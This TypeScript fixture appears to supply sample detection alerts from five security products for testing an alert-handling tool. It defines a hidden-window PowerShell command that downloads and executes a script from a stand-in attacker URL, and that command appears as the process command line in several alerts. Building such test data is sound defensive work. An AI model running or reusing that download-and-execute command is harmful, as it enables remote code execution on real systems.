// Alerts of five products in the shapes their APIs give, one of them twice on different machines.
import { attacker, domain, hosts, hoursAgo, payloadHash, staff } from './people.ts'

export interface SampleAlert {
  /** The product's own id, by which sending it twice makes one alert. */
  alertId: string
  source: string
  alert: Record<string, unknown>
  displayFields?: string[]
}

const script = `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('${attacker.url}')"`

export function sampleAlerts(): SampleAlert[] {
  return [
    {
      alertId: 'ldt:0f1e2d3c4b5a:8812734',
      source: 'cs',
      alert: crowdstrike(),
      displayFields: ['device.hostname', 'behaviors[0].cmdline'],
    },
    { alertId: 'da6377012345678901_-1203344', source: 'msd', alert: defender() },
    { alertId: '1690000000000000001', source: 's1', alert: sentinelOne() },
    { alertId: '3f2b1c60-0001-11ef-9c4d-6d2f5e8a9b01', source: 'okta', alert: okta() },
    { alertId: '16c1f2b0a9d84e7f8a6b5c4d3e2f1a00', source: 'aws_guardduty', alert: guardDuty() },
  ]
}

function crowdstrike() {
  return {
    detection_id: 'ldt:0f1e2d3c4b5a:8812734',
    cid: '7c5c1d0e9b8a4f1f',
    created_timestamp: hoursAgo(30),
    max_severity_displayname: 'Critical',
    display_name: 'Script downloaded and run from memory',
    falcon_host_link: 'https://falcon.example/activity/detections/detail/0f1e2d3c4b5a/8812734',
    status: 'new',
    device: {
      hostname: hosts.finance,
      device_id: 'a41f9c0d7e2b4c5d',
      platform_name: 'Windows',
      os_version: 'Windows 11',
      local_ip: '10.20.7.7',
      external_ip: '198.51.100.20',
    },
    behaviors: [
      {
        display_name: 'Script downloaded and run from memory',
        scenario: 'suspicious_activity',
        tactic: 'Execution',
        technique_id: 'T1059.001',
        user_name: staff.anna.login,
        cmdline: script,
        sha256: payloadHash,
      },
    ],
  }
}

function defender() {
  return {
    id: 'da6377012345678901_-1203344',
    alertId: 'da6377012345678901_-1203344',
    incidentId: 20417,
    serviceSource: 'MicrosoftDefenderForEndpoint',
    machineId: '1e5bc9d7e413ddd7902c2932e418702b84d0cc07',
    title: 'Suspicious connection following a script download',
    category: 'CommandAndControl',
    severity: 'High',
    status: 'New',
    classification: null,
    alertCreationTime: hoursAgo(29.5),
    computerDnsName: `${hosts.finance}.${domain}`,
    alertWebUrl: 'https://security.example/alerts/da6377012345678901_-1203344',
    mitreTechniques: ['T1071.001', 'T1105'],
    relatedUser: { userName: staff.anna.login, domainName: 'EXAMPLE' },
    evidence: [
      { entityType: 'Ip', ipAddress: attacker.ip },
      { entityType: 'Url', url: attacker.url },
      { entityType: 'Process', processCommandLine: script, sha256: payloadHash },
    ],
  }
}

function sentinelOne() {
  return {
    id: '1690000000000000001',
    threatInfo: {
      threatId: '1690000000000000001',
      threatName: 'agent.ps1',
      identifiedAt: hoursAgo(28),
      confidenceLevel: 'malicious',
      mitigationStatus: 'mitigated',
      analystVerdict: 'true_positive',
      sha256: payloadHash,
      maliciousProcessArguments: script,
      processUser: `EXAMPLE\\${staff.omar.login}`,
    },
    agentDetectionInfo: {
      agentUuid: '0c9d8e7f6a5b4c3d2e1f',
      name: hosts.files,
      osFamily: 'windows',
      osName: 'Windows Server 2022',
      agentIpV4: '10.20.1.5',
      externalIp: '198.51.100.20',
      siteName: 'Harbour',
      accountName: 'Example Shipping',
      agentLastLoggedInUserName: staff.omar.login,
    },
    agentRealtimeInfo: { agentComputerName: hosts.files, agentOsType: 'windows', agentOsName: 'Windows Server 2022' },
    indicators: [{ category: 'Execution', tactics: [{ name: 'Execution', techniques: [{ name: 'T1059.001' }] }] }],
  }
}

function okta() {
  return {
    uuid: '3f2b1c60-0001-11ef-9c4d-6d2f5e8a9b01',
    published: hoursAgo(26),
    eventType: 'security.threat.detected',
    displayMessage: 'Request from suspicious actor',
    outcome: { result: 'ALLOW', reason: 'Password spray' },
    severity: 'WARN',
    actor: { alternateId: staff.anna.email, displayName: staff.anna.name, type: 'User' },
    client: {
      ipAddress: attacker.ip,
      zone: 'null',
      userAgent: { os: 'Linux', browser: 'UNKNOWN' },
      geographicalContext: { country: 'Nowhere' },
    },
    debugContext: { debugData: { threatSuspected: 'true', risk: { level: 'HIGH' } } },
    target: [{ alternateId: 'mail', displayName: 'Mail', type: 'AppInstance' }],
  }
}

function guardDuty() {
  return {
    id: '16c1f2b0a9d84e7f8a6b5c4d3e2f1a00',
    arn: 'arn:aws:guardduty:eu-central-1:123456789012:detector/0a1b/finding/16c1f2b0a9d84e7f8a6b5c4d3e2f1a00',
    type: 'UnauthorizedAccess:EC2/SSHBruteForce',
    title: `${attacker.ip} is performing SSH brute force attacks against i-0a1b2c3d4e5f60718`,
    description: 'An instance is the target of many failed logins.',
    severity: 5,
    createdAt: hoursAgo(25),
    accountId: '123456789012',
    region: 'eu-central-1',
    service: {
      serviceName: 'guardduty',
      eventFirstSeen: hoursAgo(26),
      action: {
        actionType: 'NETWORK_CONNECTION',
        networkConnectionAction: { remoteIpDetails: { ipAddressV4: attacker.ip }, localPortDetails: { port: 22 } },
      },
    },
    resource: {
      resourceType: 'Instance',
      instanceDetails: {
        instanceId: 'i-0a1b2c3d4e5f60718',
        platform: 'linux',
        networkInterfaces: [{ privateIpAddress: '10.30.0.14', publicIp: '198.51.100.33' }],
      },
    },
  }
}
